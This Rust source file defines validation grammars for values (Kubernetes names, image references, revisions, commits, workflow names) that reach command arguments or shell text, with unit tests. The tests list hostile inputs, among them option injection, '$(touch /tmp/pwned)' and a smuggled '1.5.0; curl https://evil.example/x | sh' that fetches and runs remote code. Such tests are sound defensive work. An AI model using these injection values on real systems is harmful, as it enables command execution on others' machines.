//! The grammar of every value that can reach an argv, a command people paste, or a
//! message: one definition per kind of field. `wire/` checks a value where it arrives
//! (a 400 naming the field), and the renderers check it again where it is used (argv,
//! shell text), because rows stored before a grammar existed are read back too.
//!
//! Every grammar is ASCII only and none admits a leading `-`, so a value can never be
//! taken for an option; none admits whitespace, quotes, `;`, `$`, backticks or
//! control characters.

use std::fmt;

/// A kind of value with a grammar.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Field {
    /// Our name for a cluster: a DNS-1123 subdomain of at most 253, or empty (a CI
    /// callback may name none).
    Cluster,
    /// A Kubernetes namespace: a DNS-1123 label (`[a-z0-9]([-a-z0-9]*[a-z0-9])?`), at
    /// most 63.
    Namespace,
    /// A Kubernetes object name: a DNS-1123 subdomain (dot-separated labels), at most
    /// 253.
    Name,
    /// A Kubernetes kind: an ASCII letter, then letters and digits, at most 63.
    Kind,
    /// A target key, `cluster/namespace/kind/name`, each part by its own grammar.
    Target,
    /// A deploy's revision in its source's numbering (pipeline run id, ReplicaSet or
    /// Helm revision, canary checksum): a letter or digit, then letters, digits and
    /// `. _ - + : /`, at most 128.
    Revision,
    /// A ReplicaSet or Helm revision: a positive decimal number (no sign, no leading
    /// zero), at most 18 digits.
    RevisionNumber,
    /// A version (`1.6.0`, `v2.4.9-rc.1+build.5`): a letter or digit, then letters,
    /// digits and `. _ - +`, at most 128.
    Version,
    /// An image tag, as the OCI distribution spec has it: `[A-Za-z0-9_][A-Za-z0-9._-]*`,
    /// at most 128.
    ImageTag,
    /// An image reference, `[host[:port]/]path[:tag][@algorithm:hex]`: a host of DNS
    /// labels, lower-case path components, a tag by [`Field::ImageTag`], at most 1024.
    Image,
    /// A Helm release name: a DNS-1123 subdomain of at most 53 (Helm's own
    /// `ValidateReleaseName`).
    HelmRelease,
    /// An environment name (`production`): a letter or digit, then letters, digits and
    /// `. _ -`, at most 63.
    Environment,
    /// A region (`eu-west-1`): the same grammar as an environment.
    Region,
    /// A Git commit: 4 to 64 hexadecimal digits.
    Commit,
    /// A GitHub Actions workflow, by file name (`cd-rollback.yml`) or id: a letter or
    /// digit, then letters, digits and `. _ -`, at most 255.
    Workflow,
    /// One of our ids (decision, action, deploy): 1 to 20 decimal digits.
    Id,
}

/// A value that does not fit its field's grammar.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rejected {
    pub field: Field,
    /// The value, cut to 64 characters (a rejected value may be huge).
    pub excerpt: String,
}

impl fmt::Display for Rejected {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Debug quoting shows control characters and quotes as escapes, on one line.
        write!(f, "{:?} is not {}", self.excerpt, self.field.expects())
    }
}

impl std::error::Error for Rejected {}

impl Field {
    /// What a value of this field must be, in words (follows "must be").
    pub fn expects(self) -> &'static str {
        match self {
            Field::Cluster => {
                "a cluster name: lower-case letters, digits, '-' and '.', starting and \
                 ending with a letter or digit, at most 253"
            }
            Field::Namespace => {
                "a Kubernetes namespace: lower-case letters, digits and '-', starting and \
                 ending with a letter or digit, at most 63"
            }
            Field::Name => {
                "a Kubernetes name: lower-case letters, digits, '-' and '.', starting and \
                 ending with a letter or digit, at most 253"
            }
            Field::Kind => "a Kubernetes kind such as Deployment: letters and digits, at most 63",
            Field::Target => "a target key cluster/namespace/kind/name",
            Field::Revision => {
                "a revision: a letter or digit, then letters, digits and . _ - + : /, at \
                 most 128"
            }
            Field::RevisionNumber => "a revision number: a positive decimal number",
            Field::Version => {
                "a version: a letter or digit, then letters, digits and . _ - +, at most 128"
            }
            Field::ImageTag => {
                "an image tag: a letter, digit or '_', then letters, digits and . _ -, at \
                 most 128"
            }
            Field::Image => "an image reference such as registry.example.com/shop/checkout:1.6.0",
            Field::HelmRelease => {
                "a Helm release name: lower-case letters, digits, '-' and '.', starting and \
                 ending with a letter or digit, at most 53"
            }
            Field::Environment => {
                "an environment name: a letter or digit, then letters, digits and . _ -, at \
                 most 63"
            }
            Field::Region => {
                "a region: a letter or digit, then letters, digits and . _ -, at most 63"
            }
            Field::Commit => "a Git commit: 4 to 64 hexadecimal digits",
            Field::Workflow => {
                "a workflow file name or id: a letter or digit, then letters, digits and \
                 . _ -, at most 255"
            }
            Field::Id => "an id: decimal digits",
        }
    }

    /// Whether `value` fits the grammar.
    pub fn fits(self, value: &str) -> bool {
        match self {
            Field::Cluster => value.is_empty() || dns_subdomain(value, 253),
            Field::Namespace => dns_label(value, 63),
            Field::Name => dns_subdomain(value, 253),
            Field::Kind => {
                value.len() <= 63
                    && value.starts_with(|c: char| c.is_ascii_alphabetic())
                    && value.chars().all(|c| c.is_ascii_alphanumeric())
            }
            Field::Target => {
                let mut parts = value.split('/');
                match (parts.next(), parts.next(), parts.next(), parts.next()) {
                    (Some(cluster), Some(namespace), Some(kind), Some(name)) => {
                        parts.next().is_none()
                            && Field::Cluster.fits(cluster)
                            && Field::Namespace.fits(namespace)
                            && Field::Kind.fits(kind)
                            && Field::Name.fits(name)
                    }
                    _ => false,
                }
            }
            Field::Revision => word(value, 128, "._-+:/"),
            Field::RevisionNumber => {
                (1..=18).contains(&value.len())
                    && !value.starts_with('0')
                    && value.bytes().all(|b| b.is_ascii_digit())
            }
            Field::Version => word(value, 128, "._-+"),
            Field::ImageTag => image_tag(value),
            Field::Image => image(value),
            Field::HelmRelease => dns_subdomain(value, 53),
            Field::Environment | Field::Region => word(value, 63, "._-"),
            Field::Commit => {
                (4..=64).contains(&value.len()) && value.bytes().all(|b| b.is_ascii_hexdigit())
            }
            Field::Workflow => word(value, 255, "._-"),
            Field::Id => {
                (1..=20).contains(&value.len()) && value.bytes().all(|b| b.is_ascii_digit())
            }
        }
    }

    /// `Ok` when `value` fits, else what is wrong with it.
    pub fn check(self, value: &str) -> Result<(), Rejected> {
        if self.fits(value) {
            Ok(())
        } else {
            Err(Rejected {
                field: self,
                excerpt: value.chars().take(64).collect(),
            })
        }
    }
}

/// A letter or digit, then letters, digits and `extra`, at most `max` bytes.
fn word(value: &str, max: usize, extra: &str) -> bool {
    (1..=max).contains(&value.len())
        && value.starts_with(|c: char| c.is_ascii_alphanumeric())
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || extra.contains(c))
}

/// `[a-z0-9]([-a-z0-9]*[a-z0-9])?`, at most `max`.
fn dns_label(value: &str, max: usize) -> bool {
    let edge = |c: Option<char>| c.is_some_and(|c| c.is_ascii_lowercase() || c.is_ascii_digit());
    (1..=max).contains(&value.len())
        && edge(value.chars().next())
        && edge(value.chars().last())
        && value
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
}

/// DNS-1123 labels joined by `.`, at most `max` in all (Kubernetes' and Helm's
/// `[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*`).
fn dns_subdomain(value: &str, max: usize) -> bool {
    (1..=max).contains(&value.len()) && value.split('.').all(|label| dns_label(label, max))
}

fn image_tag(value: &str) -> bool {
    (1..=128).contains(&value.len())
        && value.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
}

/// The distribution reference grammar, slightly simplified: path components are
/// lower-case alphanumerics joined by `.`, `_` or `-` runs.
fn image(value: &str) -> bool {
    if value.is_empty() || value.len() > 1024 {
        return false;
    }
    let (rest, digest) = match value.split_once('@') {
        Some((rest, digest)) => (rest, Some(digest)),
        None => (value, None),
    };
    if let Some(digest) = digest {
        let Some((algorithm, hex)) = digest.split_once(':') else {
            return false;
        };
        let algorithm_ok = algorithm.starts_with(|c: char| c.is_ascii_alphabetic())
            && algorithm
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "+._-".contains(c));
        if !algorithm_ok || hex.len() < 32 || !hex.bytes().all(|b| b.is_ascii_hexdigit()) {
            return false;
        }
    }
    // A tag follows the last `:` after the last `/` (a `:` before it is a port).
    let last_slash = rest.rfind('/').map_or(0, |i| i + 1);
    let (name, tag) = match rest[last_slash..].rfind(':') {
        Some(i) => (&rest[..last_slash + i], Some(&rest[last_slash + i + 1..])),
        None => (rest, None),
    };
    if tag.is_some_and(|t| !image_tag(t)) {
        return false;
    }
    let mut components: Vec<&str> = name.split('/').collect();
    let first = components[0];
    if components.len() > 1 && (first.contains(['.', ':']) || first == "localhost") {
        let (host, port) = match first.split_once(':') {
            Some((host, port)) => (host, Some(port)),
            None => (first, None),
        };
        let host_ok = !host.is_empty()
            && host.split('.').all(|label| {
                let edge = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric());
                edge(label.chars().next())
                    && edge(label.chars().last())
                    && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            });
        let port_ok = port
            .is_none_or(|p| (1..=5).contains(&p.len()) && p.bytes().all(|b| b.is_ascii_digit()));
        if !host_ok || !port_ok {
            return false;
        }
        components.remove(0);
    }
    components.iter().all(|component| {
        let edge =
            |c: Option<char>| c.is_some_and(|c| c.is_ascii_lowercase() || c.is_ascii_digit());
        edge(component.chars().next())
            && edge(component.chars().last())
            && component
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "._-".contains(c))
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    const ALL: [Field; 16] = [
        Field::Cluster,
        Field::Namespace,
        Field::Name,
        Field::Kind,
        Field::Target,
        Field::Revision,
        Field::RevisionNumber,
        Field::Version,
        Field::ImageTag,
        Field::Image,
        Field::HelmRelease,
        Field::Environment,
        Field::Region,
        Field::Commit,
        Field::Workflow,
        Field::Id,
    ];

    /// Values that must fit no field: options, shell syntax, whitespace, control
    /// characters, quotes, look-alikes of `-` and letters, and overlong text.
    pub(crate) fn hostile() -> Vec<String> {
        let mut values: Vec<String> = [
            "-",
            "-x",
            "--kubeconfig=attacker.yaml",
            "--",
            "checkout --kubeconfig=x",
            "1.5.0; curl https://evil.example/x | sh",
            "a;b",
            "$(touch /tmp/pwned)",
            "${IFS}",
            "`id`",
            "a\nb",
            "a\rb",
            "a\0b",
            "a\tb",
            "'quoted'",
            "\"quoted\"",
            "a b",
            "\u{2010}\u{2010}kubeconfig",
            "\u{2212}n",
            "ch\u{435}ckout",
            "a\u{200b}b",
            "<!channel>",
            "a|b",
            "a&b",
            "~root",
            "*",
            "#x",
            "",
        ]
        .iter()
        .map(|s| (*s).to_string())
        .collect();
        values.push("a".repeat(1025));
        values
    }

    #[test]
    fn no_field_admits_a_hostile_value() {
        for field in ALL {
            for value in hostile() {
                // An empty cluster is allowed: a CI callback may name none.
                if field == Field::Cluster && value.is_empty() {
                    continue;
                }
                assert!(!field.fits(&value), "{field:?} admits {value:?}");
            }
        }
    }

    #[test]
    fn ordinary_values_fit() {
        let cases: &[(Field, &[&str])] = &[
            (Field::Cluster, &["prod-eu", "default", "c1.example", ""]),
            (Field::Namespace, &["prod", "shop", "kube-system", "a"]),
            (Field::Name, &["checkout", "api-v2", "my.app", "a"]),
            (Field::Kind, &["Deployment", "HelmRelease", "StatefulSet"]),
            (
                Field::Target,
                &[
                    "prod-eu/shop/Deployment/checkout",
                    "/prod/Deployment/checkout",
                ],
            ),
            (
                Field::Revision,
                &[
                    "7",
                    "2231",
                    "run-2231",
                    "7d9f8c6b5d",
                    "main/2231",
                    "v1.2+3:a_b",
                ],
            ),
            (
                Field::RevisionNumber,
                &["1", "6", "12", "999999999999999999"],
            ),
            (
                Field::Version,
                &["1.6.0", "v2.4.9", "2.4.9-rc.1+build.5", "2026_08"],
            ),
            (
                Field::ImageTag,
                &["v2.4.9", "1.5.0", "_x", "latest", "v2.2230"],
            ),
            (
                Field::Image,
                &[
                    "nginx",
                    "nginx:1.27",
                    "ghcr.io/acme/checkout:v2.4.9",
                    "registry.example.com/shop/checkout:1.6.0",
                    "localhost:5000/a/b:1",
                    "registry.example.com:5000/shop/checkout",
                    "acme/checkout@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
                    "ghcr.io/acme/check_out__x:1@sha256:0123456789abcdef0123456789abcdef",
                ],
            ),
            (Field::HelmRelease, &["checkout", "shop-api", "a.b"]),
            (Field::Environment, &["production", "prod", "Prod_EU-1"]),
            (Field::Region, &["eu-west-1", "europe-west1", "westeurope"]),
            (
                Field::Commit,
                &["9f1c2d3", "abc123", &"a".repeat(40), &"F".repeat(64)],
            ),
            (Field::Workflow, &["cd-rollback.yml", "123456"]),
            (Field::Id, &["1", "42"]),
        ];
        for (field, values) in cases {
            for value in *values {
                assert!(field.fits(value), "{field:?} refuses {value:?}");
            }
        }
    }

    #[test]
    fn near_misses_are_refused() {
        let cases: &[(Field, &[&str])] = &[
            (Field::Namespace, &["Prod", "prod-", "a.b", &"a".repeat(64)]),
            (Field::Name, &["Checkout", "a..b", ".a", "a.", "a_b"]),
            (Field::Kind, &["1Deployment", "Deploy ment"]),
            (
                Field::Target,
                &[
                    "prod/Deployment/checkout",
                    "a/b/c/d/e",
                    "c/prod/Deployment/-x",
                ],
            ),
            (
                Field::RevisionNumber,
                &["0", "07", "-1", "+1", "1.0", &"9".repeat(19)],
            ),
            (
                Field::HelmRelease,
                &[&"a".repeat(54), "Checkout", "check_out"],
            ),
            (Field::Commit, &["abc", "xyz1234", &"a".repeat(65)]),
            (
                Field::Image,
                &[
                    "Registry/Shop",
                    "nginx:",
                    "nginx:-x",
                    "acme/checkout@sha256:short",
                    "host:port/x",
                    "/x",
                    "x/",
                ],
            ),
        ];
        for (field, values) in cases {
            for value in *values {
                assert!(!field.fits(value), "{field:?} admits {value:?}");
            }
        }
    }

    #[test]
    fn a_rejection_quotes_the_value_on_one_line_and_says_what_it_must_be() {
        let err = Field::HelmRelease.check("a\nb").unwrap_err();
        assert_eq!(
            err.to_string(),
            format!("\"a\\nb\" is not {}", Field::HelmRelease.expects())
        );
        let long = Field::Version.check(&"x ".repeat(100)).unwrap_err();
        assert_eq!(long.excerpt.chars().count(), 64);
    }
}
